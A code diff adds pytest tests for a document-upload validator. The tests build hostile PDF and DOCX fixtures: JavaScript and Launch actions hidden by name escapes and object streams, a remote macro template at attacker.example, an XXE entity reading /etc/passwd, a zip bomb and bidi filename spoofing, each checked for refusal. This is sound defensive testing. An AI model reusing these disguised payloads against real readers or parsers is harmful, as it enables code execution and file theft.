@@ -3,6 +3,7 @@ clear message, and nothing of it is stored."""
 
 import hashlib
 import io
+import re
 import zipfile
 
 import pytest
@@ -67,7 +68,7 @@ HOSTILE = [
     ("page.txt", b"<html><body><script>alert(1)</script></body></html>", "Web pages and images"),
     ("image.txt", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "Web pages"),
     ("image.svg", b'<svg xmlns="http://www.w3.org/2000/svg"></svg>', "Upload a PDF, DOCX, ODT"),
-    ("law.pdf", b"%PDF-1.4\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>", "scripts"),
+    ("law.pdf", b"%PDF-1.4\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>", "damaged"),
     (
         "law.docx",
         _zip(
@@ -126,3 +127,286 @@ def test_it_refuses_uploads_to_a_question_without_attachments(response_fra, corr
 def test_another_state_cannot_upload(response_fra, corr_ken):
     with pytest.raises(PermissionDenied):
         _upload(response_fra, corr_ken, "a.txt", b"text")
+
+
+# --- PDFs: parsed as a reader parses them ------------------------------------------------
+
+
+def _raw_pdf(*objects: bytes, previous: bytes = b"", start: int = 1, root: int = 1) -> bytes:
+    """A PDF written byte by byte, with a correct cross-reference table, so that the
+    spelling of its names is exactly what the test says. With ``previous``, an incremental
+    update of it: the new objects and a table pointing back at the old one."""
+    out = bytearray(previous or b"%PDF-1.7\n")
+    offsets = []
+    for number, body in enumerate(objects, start=start):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
+    xref = len(out)
+    out += b"xref\n"
+    if not previous:
+        out += b"0 1\n0000000000 65535 f \n"
+    out += b"%d %d\n" % (start, len(objects))
+    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
+    size = start + len(objects)
+    prev = b" /Prev %d" % int(previous.rsplit(b"startxref", 1)[1].split()[0]) if previous else b""
+    out += b"trailer\n<< /Size %d /Root %d 0 R%s >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, prev, xref)
+    return bytes(out)
+
+
+PLAIN_OBJECTS = (
+    b"<< /Type /Catalog /Pages 2 0 R >>",
+    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [<< /Type /Annot /Subtype /Link"
+    b" /Rect [0 0 10 10] /A << /S /URI /URI (https://legislation.example/) >> >>] >>",
+)
+
+
+def _pikepdf(change) -> bytes:
+    import pikepdf
+
+    pdf = pikepdf.open(io.BytesIO(_raw_pdf(*PLAIN_OBJECTS)))
+    change(pdf, pikepdf)
+    buffer = io.BytesIO()
+    # Object streams: the catalog and its actions sit compressed, invisible to a byte search.
+    pdf.save(buffer, object_stream_mode=pikepdf.ObjectStreamMode.generate)
+    return buffer.getvalue()
+
+
+def _open_action(action):
+    def change(pdf, pikepdf):
+        pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(action(pikepdf)))
+
+    return change
+
+
+def _page_annotation(annotation):
+    def change(pdf, pikepdf):
+        pdf.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(annotation(pikepdf))])
+
+    return change
+
+
+def _names_javascript(pdf, pikepdf):
+    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
+    tree = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("x"), pdf.make_indirect(script)]))
+    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pdf.make_indirect(tree))
+
+
+def _embedded_file(pdf, pikepdf):
+    pdf.attachments["payload.txt"] = pikepdf.AttachedFileSpec(pdf, b"payload")
+
+
+def _acroform(pdf, pikepdf):
+    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pikepdf.String("<xdp/>"))
+
+
+HOSTILE_PDFS = {
+    "name escapes": _raw_pdf(
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S/J#61vaScript /J#53 (app.alert\\(1\\)) >> >>",
+        *PLAIN_OBJECTS[1:],
+    ),
+    "object stream javascript": _pikepdf(
+        _open_action(lambda p: {"/S": p.Name.JavaScript, "/JS": p.String("app.alert(1)")})
+    ),
+    "launch": _pikepdf(_open_action(lambda p: {"/S": p.Name.Launch, "/F": p.String("cmd.exe")})),
+    "submit form": _pikepdf(
+        _open_action(lambda p: {"/S": p.Name.SubmitForm, "/F": p.String("https://x.example")})
+    ),
+    "import data": _pikepdf(_open_action(lambda p: {"/S": p.Name.ImportData, "/F": p.String("data.fdf")})),
+    "go to remote": _pikepdf(
+        _open_action(lambda p: {"/S": p.Name.GoToR, "/F": p.String("other.pdf"), "/D": 0})
+    ),
+    "go to embedded": _pikepdf(_open_action(lambda p: {"/S": p.Name.GoToE, "/T": p.Dictionary(R=p.Name.C)})),
+    "names javascript tree": _pikepdf(_names_javascript),
+    "embedded file": _pikepdf(_embedded_file),
+    "acroform and xfa": _pikepdf(_acroform),
+    "annotation launch": _pikepdf(
+        _page_annotation(
+            lambda p: {
+                "/Type": p.Name.Annot,
+                "/Subtype": p.Name.Link,
+                "/Rect": [0, 0, 10, 10],
+                "/A": p.Dictionary(S=p.Name.Launch, F=p.String("calc.exe")),
+            }
+        )
+    ),
+    "annotation file attachment": _pikepdf(
+        _page_annotation(
+            lambda p: {"/Type": p.Name.Annot, "/Subtype": p.Name.FileAttachment, "/Rect": [0, 0, 9, 9]}
+        )
+    ),
+    "annotation rich media": _pikepdf(
+        _page_annotation(
+            lambda p: {
+                "/Type": p.Name.Annot,
+                "/Subtype": p.Name.RichMedia,
+                "/Rect": [0, 0, 9, 9],
+                "/RichMediaContent": p.Dictionary(),
+            }
+        )
+    ),
+    "page additional action": _pikepdf(
+        lambda pdf, p: setattr(
+            pdf.pages[0].obj, "AA", p.Dictionary(O=p.Dictionary(S=p.Name.JavaScript, JS=p.String("1")))
+        )
+    ),
+    "incremental update": _raw_pdf(
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
+        b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
+        previous=_raw_pdf(*PLAIN_OBJECTS),
+        start=4,
+        root=4,
+    ),
+}
+
+
+@pytest.mark.parametrize("data", HOSTILE_PDFS.values(), ids=HOSTILE_PDFS.keys())
+def test_it_refuses_pdfs_with_active_content_wherever_it_sits(response_fra, corr_fra, data):
+    with pytest.raises(ApplicationError, match="scripts, forms, actions, attachments or multimedia"):
+        _upload(response_fra, corr_fra, "law.pdf", data)
+    assert not Attachment.objects.exists()
+
+
+def test_the_disguised_pdfs_hide_from_a_byte_search():
+    # What made the old check pass them: no readable /JavaScript or /JS in the bytes.
+    for name in ("name escapes", "object stream javascript", "names javascript tree"):
+        assert not re.search(rb"/(JavaScript|JS)\b", HOSTILE_PDFS[name]), name
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        _raw_pdf(*PLAIN_OBJECTS),
+        _raw_pdf(
+            *PLAIN_OBJECTS[:2], b"<< /Type /Page /Parent 2 0 R >>", previous=_raw_pdf(*PLAIN_OBJECTS), start=3
+        ),
+    ],
+    ids=["with a web link", "with a harmless update"],
+)
+def test_it_accepts_a_plain_pdf(response_fra, corr_fra, data):
+    assert _upload(response_fra, corr_fra, "law.pdf", data).kind == "pdf"
+
+
+@pytest.mark.parametrize("data", [b"%PDF-1.7\nnot a pdf at all", b"%PDF-1.7\n" + b"\x00" * 64])
+def test_it_refuses_a_pdf_that_does_not_parse(response_fra, corr_fra, data):
+    with pytest.raises(ApplicationError, match="damaged and cannot be read"):
+        _upload(response_fra, corr_fra, "law.pdf", data)
+    assert not Attachment.objects.exists()
+
+
+# --- Office documents: every relationship of every part ---------------------------------
+
+RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
+OFFICE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def _rels(*relationships: str) -> bytes:
+    return (
+        f'<?xml version="1.0"?><Relationships xmlns="{RELS_NS}">{"".join(relationships)}</Relationships>'
+    ).encode()
+
+
+def _external(kind: str, target: str, mode: str = "External") -> bytes:
+    return _rels(
+        f'<Relationship Id="rId9" Type="{OFFICE_REL}/{kind}" Target="{target}" TargetMode="{mode}"/>'
+    )
+
+
+def _docx(parts: dict[str, bytes] | None = None) -> bytes:
+    return _zip(
+        {
+            "[Content_Types].xml": b"<Types/>",
+            "_rels/.rels": _rels(
+                f'<Relationship Id="r1" Type="{OFFICE_REL}/officeDocument" Target="word/document.xml"/>'
+            ),
+            "word/document.xml": b"<w:document/>",
+            **(parts or {}),
+        }
+    )
+
+
+REMOTE_TEMPLATE = _external("attachedTemplate", "https://attacker.example/macros.dotm")
+HOSTILE_OFFICE = {
+    "attached template": ("law.docx", _docx({"word/_rels/settings.xml.rels": REMOTE_TEMPLATE})),
+    "external image": (
+        "law.docx",
+        _docx({"word/_rels/document.xml.rels": _external("image", "\\\\smb.example\\x.png")}),
+    ),
+    "external mode in other case": (
+        "law.docx",
+        _docx({"word/_rels/document.xml.rels": _external("oleObject", "file:///c:/x", " external ")}),
+    ),
+    "hyperlink to a file": (
+        "law.docx",
+        _docx({"word/_rels/document.xml.rels": _external("hyperlink", "file:///c:/cmd.exe")}),
+    ),
+}
+
+
+@pytest.mark.parametrize(("name", "data"), HOSTILE_OFFICE.values(), ids=HOSTILE_OFFICE.keys())
+def test_it_refuses_office_documents_that_fetch_outside_parts(response_fra, corr_fra, name, data):
+    with pytest.raises(ApplicationError, match="outside template or file"):
+        _upload(response_fra, corr_fra, name, data)
+    assert not Attachment.objects.exists()
+
+
+def test_it_refuses_a_remote_template_in_any_ooxml_package(response_fra, corr_fra):
+    # A spreadsheet is refused for its relationship before it is refused for its kind.
+    workbook = _zip({"[Content_Types].xml": b"<Types/>", "xl/_rels/workbook.xml.rels": REMOTE_TEMPLATE})
+    with pytest.raises(ApplicationError, match="outside template or file"):
+        _upload(response_fra, corr_fra, "law.docx", workbook)
+
+
+def test_it_accepts_a_document_with_web_links(response_fra, corr_fra):
+    data = _docx({"word/_rels/document.xml.rels": _external("hyperlink", "https://legislation.example/")})
+    assert _upload(response_fra, corr_fra, "law.docx", data).kind == "docx"
+
+
+@pytest.mark.parametrize(
+    "rels",
+    [
+        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;">]>'
+        b'<Relationships xmlns="' + RELS_NS.encode() + b'">&b;</Relationships>',
+        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><Relationships>&x;</Relationships>',
+        b"<Relationships><not-closed>",
+    ],
+    ids=["entity expansion", "external entity", "broken xml"],
+)
+def test_it_reads_relationships_without_entities(response_fra, corr_fra, rels):
+    with pytest.raises(ApplicationError, match="damaged and cannot be read"):
+        _upload(response_fra, corr_fra, "law.docx", _docx({"word/_rels/document.xml.rels": rels}))
+
+
+@pytest.mark.parametrize(
+    "extra",
+    [{"word/vbaProject.bin": b"\x00"}, {"xl/vbaProject.bin": b"\x00"}],
+    ids=["word macros", "macros under another folder"],
+)
+def test_it_refuses_macro_enabled_content(response_fra, corr_fra, extra):
+    with pytest.raises(ApplicationError, match="macros"):
+        _upload(
+            response_fra,
+            corr_fra,
+            "law.docx",
+            _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"x", **extra}),
+        )
+
+
+def test_it_refuses_a_zip_whose_directory_declares_a_bomb(response_fra, corr_fra):
+    data = bytearray(_docx())
+    # Raise one part's declared size in the central directory: it is read before anything is unpacked.
+    directory = data.rfind(b"PK\x01\x02")
+    data[directory + 24 : directory + 28] = (300 * 1024 * 1024).to_bytes(4, "little")
+    with pytest.raises(ApplicationError, match="unreasonable size"):
+        _upload(response_fra, corr_fra, "law.docx", bytes(data))
+
+
+def test_a_file_name_loses_its_bidi_controls(response_fra, corr_fra):
+    attachment = _upload(response_fra, corr_fra, "law\u202e\u2066-2004\u2069.txt", b"text")
+    assert attachment.original_name == "law-2004.txt"
+
+
+def test_a_bidi_override_cannot_disguise_the_extension(response_fra, corr_fra):
+    # Shown as "reportexe.txt" by a bidi-aware display, it is a .exe.
+    with pytest.raises(ApplicationError, match="Upload a PDF, DOCX, ODT or plain text"):
+        _upload(response_fra, corr_fra, "report\u202etxt.exe", b"MZ")
